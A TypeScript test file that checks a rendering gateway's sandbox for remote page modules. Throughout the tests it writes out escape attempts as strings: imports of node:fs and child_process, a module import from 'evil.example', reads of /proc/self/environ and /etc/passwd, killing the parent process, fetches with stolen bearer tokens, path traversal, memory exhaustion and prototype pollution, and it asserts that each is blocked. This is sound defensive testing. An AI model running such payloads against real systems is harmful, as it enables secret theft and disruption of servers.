import { spawn } from 'node:child_process'
import { once } from 'node:events'
import { readFileSync } from 'node:fs'
import { createServer } from 'node:net'
import { fileURLToPath } from 'node:url'
import { waitUntil } from '@keur/store/testing/wait-until'
import { startFakeApi } from '../testing/fakes.ts'
import { endWhatIsOpened } from '../testing/opened.ts'
import { openSite, remoteBuild, shellBuild, shellModule, type TestSite, waitForPage } from '../testing/test-site.ts'

endWhatIsOpened()

const good = remoteBuild('locations', 'aaaaaaaaaaaaaaaa', "'<main>locations</main>'")
const hostile = (expression: string, top = '') => remoteBuild('ventes', 'bbbbbbbbbbbbbbbb', expression, top)

let site: TestSite

/** The page of the hostile remote. Other remotes are rendered at once, meanwhile and after it. */
async function renderHostile(expression: string, top = '', shell = shellBuild, env = {}): Promise<string> {
  site = await openSite([shell, good, hostile(expression, top)], env)
  await waitForPage(site, '/locations')
  const page = site.request('/ventes')
  await expectOthersRendered()
  const { text } = await page
  await expectOthersRendered()
  return text
}

async function expectOthersRendered() {
  const other = await site.request('/locations')
  expect(other).toMatchObject({ status: 200, text: expect.stringContaining('<main>locations</main>') })
}

const waitForLog = (text: string) => waitUntil(() => site.lines.join('').includes(text))

/** Formerly these imports were resolved by Node: modules could reach files, programs and the gateway's thread. */
test.each(['node:fs', 'constructor'])('a remote that imports %s does not load, which is logged', async (specifier) => {
  const text = await renderHostile('path', `import * as taken from ${JSON.stringify(specifier)}`)
  expect(text).toContain('<main>frame /ventes')
  await waitForLog(`It imports « ${specifier} », which the shell does not provide`)
})

/** Formerly process.kill could end the gateway, and getBuiltinModule and binding could load any module of Node. */
test('code that it imports or evaluates later is blocked too, and its `process` reaches nothing outside', async () => {
  const specifiers = [
    ...['node:fs', 'fs', 'fs/promises', 'node:child_process', 'node:worker_threads', 'node:module', 'react-router'],
    ...['constructor', './server.mjs', 'file:///etc/passwd', 'https://evil.example/module.mjs'],
    'data:text/javascript,export default 1'
  ]
  const attempts = [
    ...specifiers.map((specifier) => `import(${JSON.stringify(specifier)})`),
    "(async () => import.meta.resolve('node:fs'))()",
    "(async () => new Function('return import(`node:fs`)')())()",
    "(async () => (0, eval)('1'))()"
  ]
  const names = [
    ...['getBuiltinModule', 'binding', '_linkedBinding', 'dlopen', 'kill', '_kill', 'execve', 'report', 'ppid'],
    ...['stdin', 'mainModule', '_debugProcess', 'constructor.prototype']
  ]
  const outcomes = attempts.map((attempt) => `${attempt}.then(() => 'reached', ({ message }) => message)`)
  const look = `JSON.stringify([${JSON.stringify(names)}.filter((name) => process[name] !== undefined), process.env, typeof require])`
  const text = await renderHostile(
    `Promise.all([${outcomes.join()}]).then((all) => '<main>' + [...all, ${look}].join('|') + '</main>')`
  )
  const blocked = expect.stringContaining('Code generation from strings disallowed')
  expect(/<main>(.*?)<\/main>/s.exec(text)?.[1]?.split('|')).toEqual([
    ...[...specifiers, 'node:fs'].map((name) => expect.stringContaining(`It imports « ${name} »`)),
    blocked,
    blocked,
    '[[],{},"undefined"]'
  ])
})

/**
 * A shell that provides modules of Node by mistake: Node's permission model still blocks them. Formerly all of these
 * were possible: secrets in the environment, keys in files, a program of this user, the gateway's main thread.
 */
const carelessShell = {
  ...shellBuild,
  server: `
    import fs from 'node:fs'
    import childProcess from 'node:child_process'
    import { Worker } from 'node:worker_threads'
    import inspector from 'node:inspector'
    import real from 'node:process'
    import v8 from 'node:v8'
    const parts = { fs, childProcess, Worker, inspector, real, v8 }
    ${shellModule.replace('export const provided = {', 'export const provided = { parts,')}`
}
const gatewaySource = fileURLToPath(new URL('../rendering/renderer.ts', import.meta.url))

test('with all modules of the shell, it still cannot reach files, programs, threads, the inspector, the gateway or an add-on', async () => {
  const attempts = {
    ERR_ACCESS_DENIED: [
      "parts.fs.readFileSync('/proc/self/environ', 'utf8')",
      "parts.fs.readFileSync('/proc/' + parts.real.ppid + '/environ')",
      "parts.fs.readFileSync('/etc/passwd')",
      `parts.fs.readFileSync(${JSON.stringify(gatewaySource)})`,
      "parts.fs.readdirSync('/tmp')",
      "parts.fs.writeFileSync('/tmp/keur-was-here', '')",
      "parts.childProcess.execFileSync('id')",
      "new parts.Worker('1', { eval: true })",
      'new parts.inspector.Session().connect()',
      'parts.inspector.open(0)'
    ],
    'is not a function': [
      "parts.real.kill(parts.real.ppid, 'SIGKILL')",
      "parts.real.getBuiltinModule('fs')",
      "parts.real.dlopen({ exports: {} }, '/x.node')"
    ]
  }
  const outcomes = Object.values(attempts)
    .flat()
    .map(
      (attempt) =>
        `(() => { try { return 'reached ' + ${attempt} } catch ({ code, message }) { return code ?? message } })()`
    )
  const heap = 'JSON.stringify([parts.v8.getHeapStatistics().heap_size_limit / 2 ** 20 < 300, process.pid])'
  const expression = `'<main>' + [${outcomes.join()}, ${heap}].join('|') + '</main>'`
  const text = await renderHostile(expression, "import parts from 'parts'", carelessShell)
  const results = /<main>(.*?)<\/main>/s.exec(text)?.[1]?.split('|') ?? []
  // Its heap is limited, and it is the first to go when the machine runs out of memory.
  const [isLimited, pid] = JSON.parse(results.pop() ?? '[]')
  expect(isLimited).toBe(true)
  if (process.platform === 'linux') expect(readFileSync(`/proc/${pid}/oom_score_adj`, 'utf8').trim()).toBe('1000')
  expect(results).toEqual(
    Object.entries(attempts).flatMap(([refusal, all]) =>
      all.map(() => expect.stringMatching(new RegExp(`${refusal}$`)))
    )
  )
})

/** Formerly 2,626 MB in twenty seconds, in the gateway's own process. */
test('memory outside of its heap is limited too: its process is killed, and no other', async () => {
  // Not without an end: a machine without the limit has to survive this test.
  const hoard = 'const all = []; setInterval(() => all.length < 30 && all.push(Buffer.alloc(20_000_000, 1)), 50)'
  expect(await renderHostile('path', hoard)).toContain('/ventes')
  await waitForLog('MB of memory')
  await expectOthersRendered()
  expect((await site.request('/ventes/other')).text).toContain('<main>frame /ventes')
})

test('a message that was not requested ends its process', async () => {
  const flood =
    'setInterval(() => { for (let line = 0; line < 1000; line += 1) parts.fs.writeSync(3, \'{"id":0}\\\\n\') }, 10)'
  await renderHostile('path', `import parts from 'parts'; ${flood.replace('\\\\n', '\\n')}`, carelessShell)
  await waitForLog('It sent a message that was not requested')
})

test('changes of JavaScript’s built-ins affect its own process only', () =>
  renderHostile('path', "Array.prototype.map = () => { throw new Error('spoilt') }; JSON.parse = () => ({})"))

/** Formerly the network was open: a module could reach whatever the machine reaches, and the API as any of its callers. */
test('it has no network: only public reads of the API, which the gateway sends without credentials', async () => {
  // given another server of the machine, and an API
  let connections = 0
  const other = createServer((socket) => {
    connections += 1
    socket.end('HTTP/1.1 200 OK\r\nContent-Length: 5\r\nConnection: close\r\n\r\nhello')
  })
  await once(other.listen(0, '127.0.0.1'), 'listening')
  const { port } = other.address() as { port: number }
  const received: string[] = []
  const api = await startFakeApi(({ pathname, search }, { method, headers }) => {
    if (pathname !== '/api/revisions')
      received.push(`${method} ${pathname}${search} ${headers.authorization ?? headers.cookie ?? 'anonymous'}`)
    return 'public'
  })
  const elsewhere = `http://127.0.0.1:${port}/`
  const own = 'http://api.invalid/api'
  const attempts = [
    `fetch('${elsewhere}')`,
    `fetch('${api.url}/api/sales')`,
    `fetch('${own}/admin/session', { headers: { authorization: 'Bearer stolen' } })`,
    `fetch('${own}/users/confirm?token=x')`,
    `fetch('${own}/sales/../users/confirm?token=x')`,
    `fetch('${own}/sales/%2e%2e/users/profile')`,
    `fetch('${own}/sales', { method: 'POST', body: '{}' })`,
    `fetch('${own}/sales?limit=1', { headers: { authorization: 'Bearer stolen', cookie: 'a=b' } })`,
    `(async () => new WebSocket('ws://127.0.0.1:${port}'))()`,
    `(async () => new EventSource('${elsewhere}'))()`,
    `(async () => new net.Socket().connect(${port}, '127.0.0.1'))()`,
    `(async () => http.get('${elsewhere}'))()`,
    `(async () => { delete globalThis.fetch; globalThis.fetch = 1; return fetch('${elsewhere}') })()`
  ]
  // when a module tries all, with Node's network modules and changed prototypes
  const outcomes = attempts.map(
    (attempt) =>
      `${attempt}.then(async (response) => response.status + ' ' + await response.text(), ({ name }) => name)`
  )
  const careless = {
    ...shellBuild,
    server: `import net from 'node:net'; import http from 'http'\nconst parts = { net, http }\n${shellModule.replace('export const provided = {', 'export const provided = { parts,')}`
  }
  const top =
    "import parts from 'parts'; const { net, http } = parts; Object.prototype.adapter = 'http'; Object.prototype.dispatcher = {}"
  const expression = `'<main>' + (await Promise.all([${outcomes.join()}])).join('|') + '</main>'`
  const text = await renderHostile(expression, top, careless, { API_URL: api.url })
  // then it reads a public list, as an anonymous visitor, and nothing else
  const refused = expect.stringMatching(/^403 .*Une page ne lit que/)
  expect(/<main>(.*?)<\/main>/s.exec(text)?.[1]?.split('|')).toEqual([
    'TypeError',
    'TypeError',
    ...Array(4).fill(refused),
    'TypeError',
    '200 "public"',
    'ReferenceError',
    'ReferenceError',
    'TypeError',
    'TypeError',
    'TypeError'
  ])
  expect(received).toEqual(['GET /api/sales?limit=1 anonymous'])
  expect(connections).toBe(0)
  other.close()
})

test('a page may call the API twenty times; one that calls it more ends its process', async () => {
  const calls =
    "(await Promise.all(Array.from({ length: Number(path.slice(8)) }, () => fetch('http://api.invalid/api/sales').catch(() => 1)))).length + ' calls'"
  await renderHostile(calls)
  expect((await site.request('/ventes/20')).text).toContain('20 calls')
  expect((await site.request('/ventes/21')).text).toContain('<main>frame /ventes')
  await waitForLog('It called the API more than 20 times for a page')
})

test('the processes of a gateway end when it is killed, even one that is stuck', async () => {
  site = await openSite([])
  // given a process with a render process that responds, and one that is stuck
  const script = fileURLToPath(new URL('../testing/orphaned-renderers.ts', import.meta.url))
  const parent = spawn(process.execPath, ['--disable-warning=ExperimentalWarning', script], {
    stdio: ['ignore', 'pipe', 'inherit']
  })
  const [output] = (await once(parent.stdout, 'data')) as [Buffer]
  const pids = String(output).trim().split(' ').map(Number)
  expect(pids).toHaveLength(2)
  expect(pids.every(isAlive)).toBe(true)
  // when it is killed
  parent.kill('SIGKILL')
  // then both are gone
  await waitUntil(() => !pids.some(isAlive))
})

function isAlive(pid: number): boolean {
  try {
    process.kill(pid, 0)
    // A zombie is dead.
    return process.platform !== 'linux' || !/^State:\s+Z/m.test(readFileSync(`/proc/${pid}/status`, 'utf8'))
  } catch {
    return false
  }
}
